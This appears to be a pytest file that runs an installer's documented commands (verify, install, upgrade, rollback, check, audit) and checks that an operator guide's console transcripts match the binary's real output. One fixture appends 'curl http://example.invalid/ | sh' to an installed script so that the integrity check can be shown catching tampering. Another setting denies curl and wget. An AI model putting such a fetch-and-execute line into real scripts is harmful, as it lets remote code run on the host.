"""docs/operator-guide.md shows the built binary's real output, and cannot go stale.

Each ``<!-- transcript: ID -->`` block in the guide is a ``console`` code block: a
``$ abhed-installer ...`` line and what it printed (stdout and stderr interleaved, as a
terminal shows them).  This test runs the same commands, in order, with the built binary
on real signed test bundles in a temporary prefix, normalises what varies between runs
(paths, hashes, key ids, times, durations, rates, ports, user and host) and compares block
by block.  ``scripts/operator-guide-transcript`` (``ABHED_WRITE_GUIDE=1``) rewrites the
blocks from a fresh run instead, leaving the prose alone.
"""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from models import public_key_pem
from tests.helpers import shared_scratch

from .conftest import ROOT, BundleMaker, Keys, descriptor, scripted_command, site_settings

pytestmark = pytest.mark.slow

GUIDE = ROOT / "docs" / "operator-guide.md"
PREFIX = "/opt/abhed"
_BLOCK = re.compile(r"(<!-- transcript: (?P<id>[a-z0-9-]+) -->\n```console\n)(?P<body>.*?)(```)",
                    re.S)


@dataclass(frozen=True)
class Step:
    id: str
    command: str  # as the operator types it, after "abhed-installer " (or "abhed ")
    before: Callable[[Path], None] | None = None
    exit_code: int = 0
    program: str = "abhed-installer"  # or "abhed" (this tree's), "engineer" (see ENGINEER),
    # or a path under the prefix ("{prefix}/current/venv/bin/model_signing"), run as root
    hidden: str = ""  # arguments run but not shown (the default prefix's links)


#: The engineer of the guide's last steps: a real unprivileged user running the installed
#: ``PREFIX/bin/abhed`` in their own project, with nothing of their own configured.
ENGINEER = 1001


def _alter(prefix: Path) -> None:
    f = prefix / "current" / "run-model-server"
    f.write_text(f.read_text() + "curl http://example.invalid/ | sh\n")


def _tighter(prefix: Path) -> None:
    (prefix.parent / "site" / "tighter.json").write_text(
        '{"policy": {"mode": "plan"}, "loop": {"max_turns": 30}}\n')


def _looser(prefix: Path) -> None:
    (prefix.parent / "site" / "looser.json").write_text('{"policy": {"mode": "auto"}}\n')


def _loosen(prefix: Path) -> None:
    f = prefix / "current" / "site" / "settings.json"
    f.write_text(f.read_text().replace('"mode": "ask"', '"mode": "auto"'))


def _engineer_loosens(prefix: Path) -> None:
    """The engineer's own config asks for more than the site allows."""
    mine = prefix.parent / "engineer" / ".abhed" / "config.json"
    mine.write_text('{"policy": {"mode": "auto", "allow": [{"tool": "bash"}]},\n'
                    ' "sandbox": {"backend": "host"}}\n')
    os.chown(mine, ENGINEER, ENGINEER)


def _engineer_complies(prefix: Path) -> None:
    """The engineer takes back what the site refused (their config narrows nothing now)."""
    (prefix.parent / "engineer" / ".abhed" / "config.json").unlink()


MODEL = "{prefix}/current/bundle/models/tiny"
LINKS = "--host-link {sysroot}/etc/abhed/site --bin-link {sysroot}/usr/local/bin/abhed"

STEPS = [
    Step("verify", "verify abhed-1.abhed --trust publisher.pub"),
    Step("preflight", "preflight abhed-1.abhed --trust publisher.pub", hidden=LINKS),
    Step("install", "install abhed-1.abhed --trust publisher.pub", hidden=LINKS),
    Step("status", "status"),
    Step("engineer-show", "config show policy", program="engineer"),
    Step("engineer-loosen", "run 'tidy up the build' -w .", program="engineer",
         before=_engineer_loosens, exit_code=2),
    Step("diff", "bundle diff abhed-1.abhed abhed-2.abhed --trust publisher.pub",
         program="abhed"),
    Step("upgrade", "upgrade abhed-2.abhed"),
    Step("probe-refused", "upgrade abhed-3.abhed", exit_code=7),
    Step("downgrade", "upgrade abhed-1.abhed", exit_code=5),
    Step("rollback", "rollback"),
    Step("check", "check"),
    Step("check-site", "check", before=_loosen, exit_code=8),
    Step("repair", "repair"),
    Step("check-altered", "check", before=_alter, exit_code=8),
    Step("tighten", "site tighten tighter.json", before=_tighter),
    Step("tighten-refused", "site tighten looser.json", before=_looser, exit_code=2),
    Step("audit-verify", "audit verify"),
    Step("audit-show", "audit show -n 4"),
    # 8. The record in the site's own tools: the weights by OpenSSF's verifier, a session as OCSF.
    Step("model-verify", f"verify key --signature {MODEL}/model.sig "
         f"--public_key publisher.model-signing.pub {MODEL}",
         program="{prefix}/current/venv/bin/model_signing"),
    Step("engineer-session", """tool glob '{"pattern": "*"}' -w .""", program="engineer",
         before=_engineer_complies),
    Step("engineer-export", "events export --format ocsf --out audit.ocsf.jsonl",
         program="engineer"),
]


def normalise(text: str, work: Path) -> str:
    """Replace what differs between runs, hosts and dependency sets by fixed stand-ins.

    The prefix is ``work/prefix`` (shown as /opt/abhed, so ``work`` itself is /opt) and
    the bundles and key lie in ``work/site``, the current directory.
    """
    text = text.replace(str(work / "engineer"), "/home/ana")
    text = text.replace(str(work / "sysroot"), "")
    text = text.replace(str(work / "prefix"), PREFIX).replace(str(work / "site") + "/", "")
    text = text.replace(str(work / "site"), ".").replace(str(work), "/opt")
    text = re.sub(r"/tmp/[^\s'\"]+", "/tmp/...", text)
    text = re.sub(r"\b[0-9a-f]{64}\b", "<sha256>", text)
    text = re.sub(r"\b[0-9a-f]{12,40}\b", "<hex>", text)
    text = re.sub(r"\b[0-9A-F]{16}\b", "<key-id>", text)
    text = re.sub(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|\+00:00)?", "<time>", text)
    text = re.sub(r"(<time> )[^@\s]+@\S+", r"\1operator@host", text)
    text = re.sub(r"s-\d{8}-\d{6}-[0-9a-f]{6}", "<session>", text)
    text = re.sub(r"(port |:)(\d{4,5})\b", r"\1<port>", text)
    text = re.sub(r"(CPython \d+\.\d+) \(/[^)]*\)", r"\1 (/usr/bin/python3)", text)
    # Progress lines come at most twice a second, so how many depends on speed: keep the
    # last one (100%) of each.
    text = re.sub(r"(?m)^abhed-installer: [^:\n]+: [\d.]+ / [\d.]+ MiB \((?!100%)\d+%.*\n", "",
                  text)
    text = re.sub(r"\b\d+\.\d+ / \d+\.\d+ MiB", "<n> / <n> MiB", text)
    # Sizes and counts that follow the wheelhouse (others' dependencies) and the path length.
    text = re.sub(r"\b\d+(\.\d+)? ?(s|ms|MiB/s|MiB|GiB)\b", r"<n> \2", text)
    text = re.sub(r"\b\d+ (members|wheels|files)\b", r"<n> \1", text)
    text = re.sub(r"size \d+, expected \d+", "size <n>, expected <n>", text)
    text = re.sub(r"bytes to write: [\d,]+", "bytes to write: <n>", text)
    return text


def run_transcript(installer_bin: list[str], make_bundle: BundleMaker, keys: Keys,
                   work: Path) -> dict[str, str]:
    """Run STEPS on a fresh prefix; each block's normalised text by id."""
    site, prefix = work / "site", work / "prefix"
    site.mkdir()
    # Release 2 tightens the site's policy: wget is denied too.
    for v, settings in ((1, site_settings()), (2, site_settings(deny=("curl", "wget")))):
        shutil.copy(make_bundle(v, name="abhed", site=settings, prefix=prefix),
                    site / f"abhed-{v}.abhed")
    # A new model whose calls come back as text: the capability probe refuses it.
    bad = make_bundle(3, name="abhed", serve=descriptor(command=scripted_command("text_calls")),
                      weights=b"a new model\n" * 4096, site=site_settings(deny=("curl", "wget")),
                      prefix=prefix)
    shutil.copy(bad, site / "abhed-3.abhed")
    shutil.copy(keys.pub, site / "publisher.pub")
    # What `abhed bundle keygen` writes beside it: the key the bundle's models are signed with.
    (site / "publisher.model-signing.pub").write_bytes(
        public_key_pem(keys.secret.model_signing_key()))
    (work / "sysroot/etc").mkdir(parents=True)
    engineer = work / "engineer"
    for d in (engineer, engineer / ".abhed", engineer / "project"):
        d.mkdir()
        os.chown(d, ENGINEER, ENGINEER)
    os.chmod(engineer, 0o700)
    env = {k: v for k, v in os.environ.items() if not k.startswith("ABHED_INSTALLER")}
    # The release's venv links to the interpreter the installer finds first on PATH; one
    # under root's home (pyenv) is out of the engineer's reach, and the site's extension,
    # run with the venv's python, would die for them. A host's python is the system's.
    env["PATH"] = "/usr/bin:/bin:" + env.get("PATH", "")
    env.update(ABHED_PREFIX=str(prefix), ABHED_INSTALLER_SYSROOT=str(work / "sysroot"),
               COLUMNS="100")
    blocks: dict[str, str] = {}
    for step in STEPS:
        if step.before:
            step.before(prefix)
        program = installer_bin if step.program == "abhed-installer" else \
            [sys.executable, "-m", "cli"]
        cwd, run_env = site, env
        if step.program.startswith("{prefix}"):
            program = [step.program.replace("{prefix}", str(prefix))]
        if step.program == "engineer":
            program = ["setpriv", f"--reuid={ENGINEER}", f"--regid={ENGINEER}", "--clear-groups",
                       str(prefix / "bin" / "abhed")]
            cwd, run_env = engineer / "project", {
                "PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(engineer), "COLUMNS": "100",
                "ABHED_HOME": str(engineer / ".abhed"), "PYTHONDONTWRITEBYTECODE": "1"}
        argv = program + shlex.split(step.command.replace("{prefix}", str(prefix))) + \
            shlex.split(step.hidden.format(sysroot=work / "sysroot"))
        p = subprocess.run(argv, cwd=cwd, env=run_env, stdout=subprocess.PIPE,
                           stderr=subprocess.STDOUT, text=True, stdin=subprocess.DEVNULL,
                           timeout=900)
        assert p.returncode == step.exit_code, f"{step.command}: exit {p.returncode}\n{p.stdout}"
        typed = f"{'abhed' if step.program == 'engineer' else step.program} {step.command}"
        shown = f"$ {typed.replace('{prefix}', PREFIX)}\n{p.stdout}"
        if step.exit_code:
            shown += f"$ echo $?\n{step.exit_code}\n"
        blocks[step.id] = normalise(shown, work)
    return blocks


def guide_blocks(text: str) -> dict[str, str]:
    return {m["id"]: m["body"] for m in _BLOCK.finditer(text)}


def rewrite(text: str, blocks: dict[str, str]) -> str:
    return _BLOCK.sub(lambda m: m[1] + blocks.get(m["id"], m["body"]) + m[4], text)


def test_normalise_replaces_what_varies() -> None:
    work = Path("/tmp/pytest-9/x0")
    got = normalise(f"{work}/prefix/releases/2 {work}/site/abhed-1.abhed {'ab' * 32} "
                    "8523B07BD34081BF 2026-11-29T14:16:23.797068Z 12.5 s port 41234 "
                    "s-20261129-141623-936c7f 21.4 MiB 44 wheels found /tmp/pytest-9/x0 writable\n"
                    "abhed-installer: verify: 0.0 / 21.4 MiB (0%, 0.0 MiB/s)\n"
                    "abhed-installer: verify: 21.4 / 21.4 MiB (100%, 90.1 MiB/s)\n"
                    "#26 2026-11-29T14:23:01+00:00 root@vm rollback start begun release 1",
                    work)
    assert got == ("/opt/abhed/releases/2 abhed-1.abhed <sha256> <key-id> <time> <n> s "
                   "port <port> <session> <n> MiB <n> wheels found /opt writable\n"
                   "abhed-installer: verify: <n> / <n> MiB (100%, <n> MiB/s)\n"
                   "#26 <time> operator@host rollback start begun release 1")


@pytest.fixture
def work() -> Iterator[Path]:
    """Scratch the guide's engineer passes through to the prefix (pytest's tmp_path is 0700)."""
    with shared_scratch("abhed-guide-") as base:
        yield base


def test_the_guide_shows_the_binarys_real_output(installer_bin: list[str],
                                                 make_bundle: BundleMaker, keys: Keys,
                                                 work: Path) -> None:
    text = GUIDE.read_text()
    blocks = run_transcript(installer_bin, make_bundle, keys, work)
    if os.environ.get("ABHED_WRITE_GUIDE") == "1":
        GUIDE.write_text(rewrite(text, blocks))
        text = GUIDE.read_text()
    in_guide = guide_blocks(text)
    assert sorted(in_guide) == sorted(blocks), "the guide's transcript blocks and STEPS differ"
    for step in STEPS:
        assert in_guide[step.id] == blocks[step.id], (
            f"docs/operator-guide.md block {step.id!r} no longer matches the binary's output; "
            "run scripts/operator-guide-transcript and review the diff")


def test_rewrite_replaces_block_bodies_and_keeps_the_prose() -> None:
    text = ("Intro `x`.\n<!-- transcript: a -->\n```console\n$ old\n```\nMiddle.\n"
            "<!-- transcript: b -->\n```console\n```\nEnd.\n")
    assert guide_blocks(text) == {"a": "$ old\n", "b": ""}
    new = rewrite(text, {"a": "$ new\nout\n", "b": "$ b\n"})
    assert new == ("Intro `x`.\n<!-- transcript: a -->\n```console\n$ new\nout\n```\nMiddle.\n"
                   "<!-- transcript: b -->\n```console\n$ b\n```\nEnd.\n")
    # A block that a run did not produce keeps its text (and the comparison then fails).
    assert guide_blocks(rewrite(text, {}))["a"] == "$ old\n"
